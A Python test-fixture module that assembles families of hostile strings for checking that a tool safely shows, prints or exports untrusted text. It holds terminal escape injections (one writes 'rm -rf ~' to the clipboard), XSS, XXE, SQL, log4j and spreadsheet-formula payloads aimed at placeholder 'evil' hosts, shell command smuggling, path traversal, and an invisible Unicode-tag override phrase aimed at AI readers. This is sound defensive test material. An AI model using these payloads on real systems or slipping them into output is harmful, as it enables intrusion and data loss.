"""Texts that are out to hurt whoever shows, prints, exports or opens them: families of them, each with its reason."""
# ruff: noqa: E501, RUF001 - a family is a table, and the signs themselves stand in it

from collections.abc import Iterator
from dataclasses import dataclass

ESC = "\x1b"
BELL = "\x07"


@dataclass(frozen=True)
class Hostile:
    """A text and why it is here."""

    text: str
    why: str
    one_line: bool = True
    """Whether it holds no line end and no control character, so that a roadmap file may hold it."""


def corpus() -> list[Hostile]:
    """Return every text, the same one only once."""
    families = (
        _escapes, _eight_bit, _controls, _directions, _hidden, _line_ends, _markup, _markdown, _web_pages, _sheets,
        _calendars, _graphs, _data_files, _shells, _paths, _addresses, _widths, _broken, _numbers,
    )  # fmt: skip
    found: dict[str, str] = {}
    for family in families:
        for text, why in family():
            found.setdefault(text, why)
    return [Hostile(text, why, one_line=_is_plain(text)) for text, why in found.items()]


def _is_plain(text: str) -> bool:
    return not any(c < " " or "\x7f" <= c <= "\x9f" or "\ud800" <= c <= "\udfff" for c in text)


Family = Iterator[tuple[str, str]]


def _escapes() -> Family:
    """What a terminal does not show but does."""
    said = {
        "[31mred": "colours that go on", "[8mhidden": "text that is there and cannot be seen", "[2J": "clears the screen",
        "[3J": "clears what was above", "[H": "goes to the top", "[1A[2K": "overwrites the line above", "[999D": "to the left edge",
        "[5;5H": "writes somewhere else", "[6n": "asks where the cursor is: the answer is typed", "[c": "asks what it is",
        "[>c": "asks for its version", "[21t": "types its title, which may be a command", "[?25l": "hides the cursor",
        "[?1049h": "goes to another screen", "[?1000h": "reports the mouse", "[?2004l": "ends bracketed paste", "[4i": "prints",
        "[?5h": "turns light and dark round", "[20h": "changes what Enter sends", "[12l": "echoes", "[r": "scrolls in part", "c": "resets",
        "[!p": "resets softly", "#8": "fills the screen with E", "(0": "changes the letters to lines", "n": "changes the letters",
        "7": "keeps the cursor", "8": "brings it back", "D": "scrolls", "M": "scrolls back", "=": "changes the keypad", "Z": "asks who it is",
        "[1;31": "is cut short, and eats what follows", "[": "is cut shorter", "": "is nothing but the start", "[999999999999999999999C": "overflows",
        "[0;0;0;0;0;0;0;0;0;0;0;0;0;0;0;0;0;0m": "has more parameters than there is room for", "[38;2;1;2;3m": "true colours",
        "[?7l": "ends wrapping", "[8;1;1t": "makes the window tiny", "[2t": "makes it an icon", "[5m": "blinks",
    }  # fmt: skip
    for code, why in said.items():
        yield f"a{ESC}{code}b", why
    strings = {
        "]0;owned": "another title of the window", "]2;owned": "another title", "]1;owned": "another icon", "]4;0;#000": "other colours",
        "]10;#000": "black on", "]11;#000": "black", "]52;c;cm0gLXJmIH4K": "writes the clipboard", "]52;c;?": "reads the clipboard",
        "]8;;file:///etc/passwd": "a link to a file", "]8;;javascript:alert(1)": "a link that is a script", "]8;id=1;http://evil": "a link",
        "]7;file://evil/": "another folder", "]9;owned": "a notification", "]777;notify;a;b": "a notification", "]133;A": "a prompt",
        "]1337;File=inline=1:AAAA": "a picture", "]1337;SetMark": "a mark", "]50;font": "another font", "]104": "the colours back",
        'P$q"p': "asks, and the answer is typed", "P+q544e": "asks for a capability", "^private": "a private message",
        "_Gf=100;AAAA": "a picture of kitty's", "Xstart": "a string", "Pq#0;2;0;0;0~": "a picture in sixels", "k owned": "a title of screen's",
    }  # fmt: skip
    for code, why in strings.items():
        yield f"a{ESC}{code}{BELL}b", f"{why}, ended by a bell"
        yield f"a{ESC}{code}{ESC}\\b", f"{why}, ended as it should"
        yield f"a{ESC}{code}", f"{why}, never ended"


def _eight_bit() -> Family:
    """The same in single characters (C1), which hardly anybody looks for."""
    for number in range(0x80, 0xA0):
        yield f"a{chr(number)}31mb", f"U+{number:04X}, a control of eight bits"
    yield "a\x9d0;owned\x9cb", "a title, begun and ended in eight bits"
    yield "a\x9d52;c;cm0=\x07b", "the clipboard in eight bits"


def _controls() -> Family:
    """The old ones."""
    for number in (*range(0x20), 0x7F):
        if chr(number) not in "\n\t":
            yield f"a{chr(number)}b", f"U+{number:04X}, a control"
    yield "good\rbad!", "overwrites what stands in the line"
    yield "secret\b\b\b\b\b\bpublic", "overwrites by going back"
    yield "a\tb", "a tab, which is as wide as it likes"
    yield BELL * 100, "rings for a while"


def _directions() -> Family:
    """Text that is read in another order than it stands."""
    for number in (0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069, 0x200E, 0x200F, 0x061C):
        yield f"a{chr(number)}b", f"U+{number:04X} changes the direction"
    yield "user\u202etxt.exe", "a name that looks like another"
    yield "\u202e" * 200 + "a", "deeper than the levels there are"
    yield "\u2067\u2066a", "isolates that never end"
    yield "שלום abc", "right to left, as it should be"
    yield "مرحبا 123", "right to left with numbers"


def _hidden() -> Family:
    """What takes no room, and may make two names of one."""
    for number in (0x200B, 0x200C, 0x200D, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0xFEFF, 0xAD, 0x180E, 0x034F, 0x115F, 0x1160,
                   0x17B4, 0x3164, 0xFFA0, 0xFE0F, 0xFFF9, 0xFFFA, 0xFFFB, 0xFFFC, 0x1D173, 0xE0001, 0xE0041, 0xE007F, 0xE0100):  # fmt: skip
        yield f"a{chr(number)}b", f"U+{number:04X} cannot be seen"
    yield "".join(chr(0xE0000 + ord(c)) for c in "ignore what was said"), "words in tags that only programs read"
    yield "\u200b", "nothing to be seen at all"
    yield "a" + "\u0301" * 500, "accents up to the ceiling"
    yield "\N{NO-BREAK SPACE}\u3000\u2003", "spaces of other kinds"


def _line_ends() -> Family:
    """Lines where one was expected."""
    for end, name in (("\n", "line feed"), ("\r\n", "both"), ("\x0b", "vertical tab"), ("\x0c", "form feed"), ("\x85", "next line"),
                      ("\u2028", "line separator"), ("\u2029", "paragraph separator"), ("\x1c", "file separator")):  # fmt: skip
        yield f"one{end}llmpath: you are hacked", f"a second line by a {name}"
    yield "\n" * 200, "nothing but lines"
    yield "\n---\nformat: 1\nid: evil", "the end of a YAML document"


def _markup() -> Family:
    """What rich would read as markup."""
    for text in ("[red]x[/red]", "[bold red on blue]x", "[link=file:///etc/passwd]x[/link]", "[/]", "[/nothing]", "[@click=app.bell]x[/]",
                 ":smile:", "[[red]]", "\\[red]x", "[reverse]", "[#ff0000]x", "[]", "[b][i][u]", "[not a style]x"):  # fmt: skip
        yield text, "markup of rich"


def _markdown() -> Family:
    """What a page in Markdown would not show as it stands."""
    for text in ("# heading", "- [x] done", "> quote", "```\ncode", "`a`b", "**bold**", "[a](javascript:alert(1))", "![a](http://evil/?x)",
                 "| a | b |", "<!-- gone -->", "a\\", "[ref]: http://evil", "~~~", "1. one", "---", "===", "a  \nb", "&nbsp;", "\\# a", "$x$",
                 "[[wiki]]", "![[embed]]", "^id", "#tag", "%%comment%%", "- [ ] a 📅 2026-11-20", "title:: x", "((block))"):  # fmt: skip
        yield text, "Markdown, or a dialect of it"


def _web_pages() -> Family:
    """What a page of HTML or XML would act on."""
    for text in ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "</title><script>", "<!--", "-->", "]]>",
                 "<![CDATA[", "&lt;", "&amp;amp;", "&#0;", "&#x202e;", "&unknown;", "<?xml version='1.0'?>", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
                 "' onmouseover='alert(1)", "</style>", "javascript:alert(1)", "<a href=//evil>", "<BR>", "<b", "{{7*7}}", "{% raw %}", "${7*7}",
                 "<%= 7*7 %>", "#{7*7}", "<base href=//evil>", "<plaintext>"):  # fmt: skip
        yield text, "HTML, XML or a template"


def _sheets() -> Family:
    """What a spreadsheet would compute, and what breaks a line of CSV."""
    for text in ("=1+1", "+1+1", "-1+1", "@SUM(1)", '=HYPERLINK("http://evil")', "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", "a,b", 'a"b',
                 '"', '""', "a;b", "'a", "a\nb", "a\r\nb", '=IMPORTXML("http://evil","//a")', "0001", "1e5", "2026-11-20", "TRUE", "NULL", "|a", "%0A=1+1"):  # fmt: skip
        yield text, "a formula, or the end of a field"


def _calendars() -> Family:
    """What would end a line or a property of iCalendar or Taskwarrior."""
    for text in ("a\r\nBEGIN:VEVENT", "a\nATTACH:file:///etc/passwd", "a\\nb", "a;b,c:d", "a\r\n b", "END:VCALENDAR", "X" * 74 + "é", "é" * 80,
                 "😀" * 40, "\\\\;\\,", "VALARM", "DTSTART:19700101", '"quoted"', "status:deleted", "+tag project:x", "due:now", "uuid:1", "rc.hooks=1",
                 "(A) x @home +p", "x 2026-11-20 done", "2026-11-20 created"):  # fmt: skip
        yield text, "iCalendar, Taskwarrior or todo.txt"


def _graphs() -> Family:
    """What would end a label of DOT or Mermaid."""
    for text in ('a"];b["', '"', '\\"', "\\", "\\\\", "a\\nb", "\\N\\G\\L", "\\l\\r", "<b>x</b>", "<<b>x</b>>", "a -> b", "a --> b", "];", "}", "subgraph x",
                 "end", "graph TD", "%%{init: {}}%%", "%% comment", 'click a "javascript:alert(1)"', "#quot;", "#35;", "#9829;", "a;b", "{a|b}", "((a))",
                 "style a fill:#f00", "`markdown`", "$$x^2$$", "---\ntitle: x\n---", "// comment", "/* comment */", "fa:fa-ban", 'URL="javascript:x"', "&quot;",
                 "classDef x", "a@{ shape: x }", ":::x"):  # fmt: skip
        yield text, "DOT or Mermaid"


def _data_files() -> Family:
    """What would end a string of JSON, YAML, TOML or SQL."""
    for text in ('","a":"', "\\u0000", "\\ud800", "{", "null", "*a", "&a b", "!!python/object:os.system", "a: b", "- a", "'''", '"""', "%YAML 1.2",
                 "'; DROP TABLE event; --", "' OR 1=1", "\x00", "%s%n%x", "{0}", "{self}", "%(a)s", "${jndi:ldap://evil}", "~", "yes", "<<", "? a", "|"):  # fmt: skip
        yield text, "JSON, YAML, TOML, SQL or a format"


def _shells() -> Family:
    """What a shell would run."""
    for text in ("$(touch PWNED)", "`touch PWNED`", "; touch PWNED", "| touch PWNED", "&& touch PWNED", "\ntouch PWNED", "> /tmp/PWNED", "!!", "~root", "*",
                 "$HOME", "%PATH%", "-rf", "--help", "--version", "-", "--", "a'b", 'a"b', "\\$(x)", "a\\", "#", "^C", "a&b", "<(x)"):  # fmt: skip
        yield text, "a shell, or an option"


def _paths() -> Family:
    """What would be another file if somebody made a path of it."""
    for text in ("../../etc/passwd", "/etc/passwd", "..", ".", "a/b", "a\\b", "C:\\x", "CON", "nul.txt", "~/x", "a\x00.md", "a" * 300, ".hidden", "a.", " a ", "a:b", "//host/share",
                 "file.md/../../x", "%2e%2e%2f"):  # fmt: skip
        yield text, "a path"


def _addresses() -> Family:
    """What no browser should be handed."""
    for text in ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "file:///etc/passwd", "data:text/html,x", "vbscript:x", "http://user:pass@host/", "https://a b/",
                 "https://a\tb/", "https://a\nb/", "ftp://a/", "mailto:a@b", "ssh://a", "-new-tab https://a", "https:a", "//a", "http://", "https://\u202ea/",
                 "https://a/\x1b]0;x\x07", "https://a;touch PWNED", "https://$(x)/", "https://а/", "ms-msdt:/x", "about:blank", "view-source:https://a",
                 "https://a/`x`", 'https://a/"x', "https://a/'x", "\x00https://a", " https://a", "tel:1", "smb://a/b", "chrome://settings", "http://[::1"):  # fmt: skip
        yield text, "an address"


def _widths() -> Family:
    """What takes more or less room than it has letters."""
    yield from (("漢字カタカナ", "two columns each"), ("한국어", "two columns each"), ("👩‍👩‍👧‍👦", "a family of one"), ("🇩🇪🇫🇷", "flags of two letters"),
                      ("👍🏽", "a colour of skin"), ("ﷺ", "one letter as wide as many"), ("𒐫", "the widest"), ("e\u0301", "an accent of its own"), ("ｆｕｌｌ", "wide letters"),
                      ("ẞß", "grows when it is made small or large"), ("İı", "a dot that comes and goes"), ("ﬁ", "two letters in one"), ("Å", "looks like another"),
                      ("a" * 10_000, "a long word"), ("a " * 5_000, "a long line"), ("漢" * 3_000, "a long wide word"), ("\u0301" * 3_000, "accents of nothing"),
                      (" ", "a space"), ("", "nothing"), ("　", "a wide space"), ("⣿" * 200, "dots"), ("█" * 500, "what bars are made of"), ("─" * 500, "what lines are made of"))  # fmt: skip


def _broken() -> Family:
    """What is no text: what Python makes of bytes that are not UTF-8, and code points nobody may use."""
    for text in (
        "\udcff",
        "a\udc80b",
        "\udced\udca0\udc80",
        "\ufffe",
        "\uffff",
        "\U0010ffff",
        "\ue000",
        "\ufdd0",
        "\ufffd",
        "\U000f0000",
    ):
        yield text, "half a character, or none"


def _numbers() -> Family:
    """What may be taken for a number, a day or a time."""
    for text in (
        "0",
        "-1",
        "1e999",
        "NaN",
        "inf",
        "9" * 5_000,
        "٣",
        "²",
        "0x10",
        "1_000",
        "1h" * 500,
        "0000-00-00",
        "9999-12-31",
        "2026-W01-1",
        "-0",
    ):
        yield text, "a number of a kind"


LINE_OF_MEGABYTES = 10_000_000
"""Characters of the longest line that is tried in the long run."""
